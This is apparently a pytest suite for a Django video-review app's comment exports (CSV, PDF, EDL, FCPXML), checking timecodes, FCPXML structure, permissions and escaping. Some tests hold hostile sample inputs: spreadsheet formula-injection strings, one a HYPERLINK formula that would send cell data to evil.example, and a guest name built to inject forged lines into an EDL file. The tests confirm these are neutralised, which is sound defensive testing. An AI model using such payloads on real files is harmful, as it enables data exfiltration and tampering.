"""What was said, taken along as a table and as markers, and read back."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from fractions import Fraction
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from jobs.models import Version
from studio.clips.models import Clip, add_clip
from studio.organisations.models import User
from studio.projects.models import Project, Visibility
from studio.reviews.exports.material import of_version
from studio.reviews.exports.report import _register as register_fonts
from studio.reviews.exports.report import _words as report_words
from studio.reviews.exports.table import harmless
from studio.reviews.exports.timeline import timecode
from studio.reviews.models import Comment
from tests.conftest import STANDARD, make_job, make_version
from tests.reviews.guests import make_link

type As = Callable[[User], Client]
KINDS = ("csv", "pdf", "edl", "fcpxml")


def say(
    version: Version, by: User, frame: int, text: str = "Lips are late", **more: Any
) -> Comment:
    return Comment.objects.create(version=version, author=by, frame=frame, text=text, **more)


def export(client: Client, of: Version | Project, kind: str) -> Any:
    name = "export_version" if isinstance(of, Version) else "export_project"
    return client.get(reverse(name, args=[of.pk, kind]))


def rows(answer: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


@pytest.fixture
def ntsc(clip: Clip, teammate: User) -> Version:
    """A version of another clip at 30000/1001 frames per second, with more than a minute."""
    other = add_clip(
        clip.project, title="Ende & <Gruß>", engine_model=STANDARD, by=teammate, look=clip.look,
        take=clip.take,
    )  # fmt: skip
    job = make_job(other, teammate)
    return make_version(job, rate_numerator=30_000, rate_denominator=1001, frames=2_000)


def test_every_comment_and_reply_is_a_row_with_its_frame(
    as_: As, version: Version, approver: User, teammate: User
) -> None:
    thread = say(version, approver, 42, "Zeile 1\nZeile 2, „ü“", last_frame=50, category="audio")
    say(version, teammate, 42, "Done", parent=thread)
    link, _ = make_link(version, approver)
    guest = link.guests.create(name="Grete", email="g@client.example")
    Comment.objects.create(version=version, guest=guest, frame=3, text="中文", is_shared=True)
    say(version, teammate, 9, "Gone", removed_at=timezone.now())
    first, second, third = rows(export(as_(approver), version, "csv"))
    assert (first["frame"], first["by"], first["guest"], first["comment"]) == (
        "3", "Grete", "yes", "中文",
    )  # fmt: skip
    assert (second["frame"], second["last frame"], second["timecode"]) == ("42", "50", "00:01:17")
    assert (second["comment"], second["input"]) == ("Zeile 1\nZeile 2, „ü“", "audio")
    assert (third["comment"], third["reply to"]) == ("Done", str(thread.pk))


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "  =1", "\t=1", "\r=1"])
def test_no_cell_is_a_formula_to_a_spreadsheet(
    as_: As, version: Version, approver: User, text: str
) -> None:
    say(version, approver, 1, text)
    (row,) = rows(export(as_(approver), version, "csv"))
    inner = text[1:] if text[0] not in "\t\r" else f"'{text[1:]}"
    assert row["comment"] == f"'{text[0]}{inner}"
    assert harmless(-1) == -1


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("Nice\n=HYPERLINK(A1)", "Nice\n'=HYPERLINK(A1)"),
        ("Nice\r\n  @SUM(A1)", "Nice\r\n  '@SUM(A1)"),
        ("Nice;=1+1;more", "Nice;'=1+1;more"),
        ("Nice\t-1", "Nice\t'-1"),
        ("a - b; c = d, e-mail@home", "a - b; c = d, e-mail@home"),
    ],
)
def test_no_line_is_a_formula_where_a_spreadsheet_cuts_cells_elsewhere(
    as_: As, version: Version, approver: User, text: str, kept: str
) -> None:
    # Where the comma is in numbers (Germany, France), Excel cuts at semicolons and at every line.
    say(version, approver, 1, text)
    (row,) = rows(export(as_(approver), version, "csv"))
    assert row["comment"] == kept


def test_a_guests_name_is_no_formula_either(as_: As, version: Version, approver: User) -> None:
    link, _ = make_link(version, approver)
    name = '=HYPERLINK("https://evil.example?x="&A1,"Look")'
    guest = link.guests.create(name=name, email="e@client.example")
    Comment.objects.create(version=version, guest=guest, frame=3, text="x", is_shared=True)
    (row,) = rows(export(as_(approver), version, "csv"))
    assert row["by"] == f"'{name}"


def test_a_guest_by_a_members_name_is_a_guest_in_every_export(
    as_: As, version: Version, approver: User
) -> None:
    link, _ = make_link(version, approver)
    guest = link.guests.create(name="Mara", email="e@client.example")
    thread = say(version, approver, 3)
    Comment.objects.create(
        version=version, guest=guest, frame=3, text="Go", is_shared=True, parent=thread
    )
    browser = as_(approver)
    edl = export(browser, version, "edl").content.decode()
    assert "|M:Mara: Lips are late Mara (guest): Go |D:1" in edl
    (marker,) = ET.fromstring(export(browser, version, "fcpxml").content).iter("marker")
    assert marker.get("value") == "Mara: Lips are late\nMara (guest): Go"
    (said,) = of_version(version).reviewed[0].said
    register_fonts()
    heads = [one.getPlainText() for one in report_words(said)]
    assert "Mara (guest) replied" in heads
    assert "00:00:03 · frame 3 · Mara · internal" in heads


def test_a_marker_of_the_edl_stands_at_exactly_its_frame(
    as_: As, version: Version, approver: User
) -> None:
    say(version, approver, 42, "Lips | are\nlate", last_frame=44)
    say(version, approver, 74, "End", resolved_at=timezone.now(), resolved_by=approver)
    text = export(as_(approver), version, "edl").content.decode()
    assert "FCM: NON-DROP FRAME\r\n" in text
    events = re.findall(r"^\d{3}  001 +V +C +(\S+) (\S+) (\S+) (\S+)\r$", text, re.MULTILINE)
    assert events == [
        ("01:00:01:17", "01:00:01:18") * 2,
        ("01:00:02:24", "01:00:03:00") * 2,
    ]
    marks = re.findall(r" \|C:ResolveColor(\w+) \|M:(.+) \|D:(\d+)\r\n", text)
    assert marks == [("Red", "Mara: Lips / are late", "3"), ("Green", "Mara: End", "1")]
    assert "* LOC: 01:00:01:17 RED     Mara: Lips | are late\r\n" in text


def test_events_of_an_edl_never_overlap_and_nothing_said_at_one_frame_is_lost(
    as_: As, version: Version, approver: User
) -> None:
    say(version, approver, 10, "A range", last_frame=30)
    say(version, approver, 20, "In it", last_frame=40, resolved_at=timezone.now(),
        resolved_by=approver)  # fmt: skip
    say(version, approver, 20, "At the same frame")
    text = export(as_(approver), version, "edl").content.decode()
    events = re.findall(r"^\d{3}  001 +V +C +\S+ \S+ (\S+) (\S+)\r$", text, re.MULTILINE)
    assert events == [("01:00:00:10", "01:00:00:11"), ("01:00:00:20", "01:00:00:21")]
    marks = re.findall(r" \|C:ResolveColor(\w+) \|M:(.+) \|D:(\d+)\r\n", text)
    assert marks == [
        ("Red", "Mara: A range", "21"),
        ("Red", "Mara: In it + Mara: At the same frame", "21"),
    ]
    located = re.findall(r"\* LOC: 01:00:00:20 (\w+) +(.+)\r\n", text)
    assert located == [("GREEN", "Mara: In it"), ("RED", "Mara: At the same frame")]


def test_a_guests_name_cannot_write_lines_of_its_own_into_a_marker_file(
    as_: As, version: Version, approver: User
) -> None:
    link, _ = make_link(version, approver)
    name = "Eve |D:9\r\n* LOC: 01:00:00:00 RED forged\n999  001      V     C        "
    guest = link.guests.create(name=name, email="e@client.example")
    Comment.objects.create(version=version, guest=guest, frame=3, text="x", is_shared=True)
    browser = as_(approver)
    text = export(browser, version, "edl").content.decode()
    assert len(re.findall(r"^\* LOC:", text, re.MULTILINE)) == 1
    assert len(re.findall(r"^\d{3}  001", text, re.MULTILINE)) == 1
    assert re.findall(r"\|D:(\d+)\r\n", text) == ["1"]
    (marker,) = ET.fromstring(export(browser, version, "fcpxml").content).iter("marker")
    assert marker.attrib.keys() == {"start", "duration", "value", "completed"}


@pytest.mark.parametrize(
    ("rate", "frame", "shown"),
    [
        (Fraction(25), 1500, "00:01:00:00"),
        # Drop-frame would call this one 00:01:00:02.
        (Fraction(30_000, 1001), 1800, "00:01:00:00"),
        (Fraction(30_000, 1001), 17_982, "00:09:59:12"),
        (Fraction(24_000, 1001), 86_400, "01:00:00:00"),
        (Fraction(60), 61, "00:00:01:01"),
    ],
)
def test_timecode_counts_frames_and_drops_none(rate: Fraction, frame: int, shown: str) -> None:
    assert timecode(frame, rate) == shown


def seconds(text: str | None) -> Fraction:
    assert text
    assert text.endswith("s")
    return Fraction(text[:-1])


def test_fcpxml_has_each_marker_at_its_frame_in_rational_seconds(
    as_: As, ntsc: Version, approver: User
) -> None:
    say(ntsc, approver, 1798, "Frame 1798 & <so on>\x07")
    say(ntsc, approver, 1999, "Last", resolved_at=timezone.now(), resolved_by=approver)
    document = ET.fromstring(export(as_(approver), ntsc, "fcpxml").content)
    assert (document.tag, document.get("version")) == ("fcpxml", "1.10")
    formats = {one.get("id"): one for one in document.iter("format")}
    asset = next(document.iter("asset"))
    frame = seconds(formats[asset.get("format")].get("frameDuration"))
    assert frame == Fraction(1001, 30_000)
    assert seconds(asset.get("duration")) == 2000 * frame
    first, last = document.iter("marker")
    assert seconds(first.get("start")) / frame == 1798
    assert seconds(last.get("start")) / frame == 1999
    assert (first.get("completed"), last.get("completed")) == ("0", "1")
    assert first.get("value") == "Mara: Frame 1798 & <so on>"
    assert {one.get("tcFormat") for one in document.iter("asset-clip")} == {"NDF"}


def test_the_whole_project_is_one_timeline_in_running_order(
    as_: As, version: Version, ntsc: Version, approver: User
) -> None:
    project = version.clip.project
    say(version, approver, 10)
    say(ntsc, approver, 20)
    document = ET.fromstring(export(as_(approver), project, "fcpxml").content)
    sequence = next(document.iter("sequence"))
    clips = list(document.iter("asset-clip"))
    assert [one.get("name") for one in clips] == [str(version), str(ntsc)]
    assert seconds(clips[0].get("offset")) == 0
    assert seconds(clips[1].get("offset")) == Fraction(75, 25) == seconds(clips[0].get("duration"))
    # On the timeline's grid of 25 frames per second, and not shorter than the clip.
    length = seconds(clips[1].get("duration"))
    assert (length * 25).denominator == 1
    assert 0 <= length - 2000 * Fraction(1001, 30_000) < Fraction(1, 25)
    assert seconds(sequence.get("duration")) == 3 + length
    starts = [seconds(one.get("start")) for one in document.iter("marker")]
    assert starts == [Fraction(10, 25), 20 * Fraction(1001, 30_000)]


#: Which elements Apple's published rules for FCPXML 1.9 and later let stand in which, in order.
INSIDE = {
    "fcpxml": ["resources", "library"], "resources": ["format", "asset"], "asset": ["media-rep"],
    "library": ["event"], "event": ["project"], "project": ["sequence"], "sequence": ["spine"],
    "spine": ["asset-clip"], "asset-clip": ["conform-rate", "marker"],
}  # fmt: skip


def test_fcpxml_keeps_the_published_rules_of_the_format(
    as_: As, version: Version, ntsc: Version, approver: User
) -> None:
    for frame in (0, 74):
        say(version, approver, frame, "x", last_frame=74)
    for frame in (0, 7, 1999):
        say(ntsc, approver, frame)
    document = ET.fromstring(export(as_(approver), version.clip.project, "fcpxml").content)
    assert tuple(map(int, str(document.get("version")).split("."))) >= (1, 9)
    for element in document.iter():
        allowed = INSIDE.get(element.tag, [])
        assert {one.tag for one in element} <= set(allowed)
        if element.tag == "asset-clip":  # markers stand behind what sets the rate
            order = [allowed.index(one.tag) for one in element]
            assert order == sorted(order)
    known = [one.get("id") for one in document.iter() if one.get("id")]
    assert len(known) == len(set(known))
    meant = [one.get(name) for one in document.iter() for name in ("ref", "format")]
    assert {one for one in meant if one} <= set(known)
    sources = [str(one.get("src")) for one in document.iter("media-rep")]
    assert sources[1] == "./Onboarding%202027%20-%20Ende%20%26%20Gru%C3%9F%20v1.mp4"
    rates = {one.get("id"): seconds(one.get("frameDuration")) for one in document.iter("format")}
    grid = rates[str(next(document.iter("sequence")).get("format"))]
    for clip in document.iter("asset-clip"):
        for name in ("offset", "duration"):
            assert (seconds(clip.get(name)) / grid).denominator == 1
        own = rates[str(clip.get("format"))]
        assert ({one.get("scaleEnabled") for one in clip.iter("conform-rate")} == {"0"}) == (
            own != grid
        )
        for marker in clip.iter("marker"):
            start, length = seconds(marker.get("start")), seconds(marker.get("duration"))
            assert (start / own).denominator == (length / own).denominator == 1
            assert 0 <= start < start + length <= seconds(clip.get("duration"))


def test_an_edl_of_several_rates_is_refused_with_a_way_out(
    as_: As, version: Version, ntsc: Version, approver: User
) -> None:
    browser = as_(approver)
    answer = export(browser, version.clip.project, "edl")
    assert answer.url == reverse("storyboard", args=[version.clip.project_id])
    assert "Take FCPXML" in browser.get(answer.url).text


def test_a_project_without_a_version_has_nothing_to_mark(
    as_: As, project: Project, approver: User
) -> None:
    browser = as_(approver)
    for kind in ("edl", "fcpxml"):
        answer = browser.get(reverse("export_project", args=[project.pk, kind]), follow=True)
        assert "nothing to mark" in answer.text


@pytest.mark.parametrize("kind", KINDS)
def test_only_those_who_may_read_the_comments_take_them_along(
    as_: As, version: Version, outsider: User, viewer: User, kind: str
) -> None:
    for thing in (version, version.clip.project):
        assert export(as_(outsider), thing, kind).status_code == 404
        assert export(Client(), thing, kind).url.startswith("/login/")
    Project.objects.filter(pk=version.clip.project_id).update(visibility=Visibility.MEMBERS)
    for thing in (version, version.clip.project):
        assert export(as_(viewer), thing, kind).status_code == 404


def test_another_kind_of_file_does_not_exist(as_: As, version: Version, approver: User) -> None:
    assert export(as_(approver), version, "exe").status_code == 404


def test_the_file_is_named_for_what_is_in_it(as_: As, version: Version, approver: User) -> None:
    answer = export(as_(approver), version, "csv")
    assert "Onboarding%202027%20-%20Welcome%20v1%20comments.csv" in answer["Content-Disposition"]


def test_an_export_takes_as_many_queries_for_many_comments_as_for_few(
    version: Version, approver: User, django_assert_num_queries: Callable[[int], Any]
) -> None:
    for n in range(40):
        say(version, approver, n)
    of_version(version)
    with django_assert_num_queries(1):
        assert len(of_version(version).reviewed[0].said) == 40
